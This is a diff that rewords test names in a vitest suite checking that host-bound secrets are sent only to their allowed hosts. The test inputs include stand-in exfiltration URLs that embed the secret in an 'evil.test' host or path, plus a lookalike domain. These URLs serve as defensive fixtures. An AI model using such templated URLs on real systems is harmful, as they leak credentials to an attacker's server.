@@ -1,4 +1,4 @@
-// Secrets that are bound to hosts are sent to these hosts only (spec/runs §2.5).
+// Secrets that are bound to hosts are sent to those hosts only (spec/runs §2.5).
 import { describe, expect, test } from 'vitest';
 import { listAudit } from '../../../src/core/audit/index.ts';
 import { applyFile, readProvisioningFile } from '../../../src/core/provisioning/index.ts';
@@ -27,11 +27,11 @@ const fields = [
   ['the body', { method: 'POST', body: { key: '{{ secrets.partner|base64_encode }}' } }],
   ['the query', { query: { key: '{{ secrets.partner }}' } }],
   ['a signature', { headers: { 'x-signature': "{{ hashHmac('sha256', 'x', secrets.partner) }}" } }],
-  ['a branch that is not taken', { query: { key: "{{ __data.no ? secrets.partner : 'none' }}" } }],
+  ['an unused branch of a template', { query: { key: "{{ __data.no ? secrets.partner : 'none' }}" } }],
 ] as const;
 
 describe('a request with a secret that is bound to hosts', () => {
-  test.each(fields)('in %s reaches one of them', async (_, more) => {
+  test.each(fields)('in %s reaches one of those hosts', async (_, more) => {
     const server = await startOutside((_request, response) => response.end('ok'));
     const stage = await stageWith({ value: canary, hosts: ['api.partner.test', '127.0.0.1'] }, [
       call(server.url, { ...more, ...once }),
@@ -61,7 +61,7 @@ describe('a request with a secret that is bound to hosts', () => {
     'https://api.partner.test.evil.test/',
     'https://{{ secrets.partner }}.evil.test/',
     'https://evil.test/{{ secrets.partner }}',
-  ])('is not deceived by %s', async (url) => {
+  ])('is not fooled by %s', async (url) => {
     const stage = await stageWith({ value: canary, hosts: ['api.partner.test'] }, [
       call(url, { headers: { 'x-key': '{{ secrets.partner }}' }, ...once }),
     ]);
@@ -70,7 +70,7 @@ describe('a request with a secret that is bound to hosts', () => {
     expect((await row(job)).error).toMatch(/can only be sent to api\.partner\.test/);
   });
 
-  test('passes nothing of it on when the host redirects to another origin', async () => {
+  test("doesn't send the secret along when the host redirects to another origin", async () => {
     const seen: string[] = [];
     const other = await startOutside((request, response) => {
       seen.push(JSON.stringify([request.url, request.headers]));
@@ -89,7 +89,7 @@ describe('a request with a secret that is bound to hosts', () => {
   });
 });
 
-test('a secret that is bound to hosts cannot be a key outside of a request', async () => {
+test("a secret that is bound to hosts can't be a signing key outside a request", async () => {
   const sign = { name: 'sign', type: 'set', values: { a: "{{ hashHmac('sha256', 'x', secrets.partner) }}" } };
   const stage = await stageWith({ value: canary, hosts: ['api.partner.test'] }, [sign]);
   const job = await again(stage);
@@ -99,7 +99,7 @@ test('a secret that is bound to hosts cannot be a key outside of a request', asy
   );
 });
 
-describe('the hosts of a secret', () => {
+describe("a secret's hosts", () => {
   const hostsOf = async ({ context, workspace }: Stage) => {
     const { rows } = await database.current.asAdministrator((client) =>
       client.query(
@@ -111,7 +111,7 @@ describe('the hosts of a secret', () => {
     return [secrets.get('partner'), hosts.get('partner')];
   };
 
-  test('are applied from a file, stay when only the value is written, and end with an empty list', async () => {
+  test('are applied from a file, are kept when only the value is written, and are removed by an empty list', async () => {
     const stage = await buildStage(database.current.context);
     const apply = (partner: unknown) => {
       const text = JSON.stringify({
@@ -133,7 +133,7 @@ describe('the hosts of a secret', () => {
     expect(audit).not.toContain(canary);
   });
 
-  test('can be narrowed without the value, and widened only with it', async () => {
+  test('can be narrowed without sending the value, and extended only together with the value', async () => {
     const stage = await stageWith({ value: canary, hosts: ['a.test', 'b.test'] });
     await change(stage, { hosts: ['a.test'] });
     expect(await hostsOf(stage)).toEqual([canary, ['a.test']]);
@@ -144,7 +144,7 @@ describe('the hosts of a secret', () => {
     expect(await hostsOf(stage)).toEqual([canary, ['b.test']]);
   });
 
-  test('keep it out of the settings of listeners', async () => {
+  test('prevent its use in listener settings', async () => {
     const stage = await stageWith({ value: canary, hosts: ['a.test'] });
     const listener = { add_authentication: true, endpoint_secret: '{{ secrets.partner }}' };
     await expect(resave(stage, { listener })).rejects.toMatchObject({ code: 'secret_bound' });
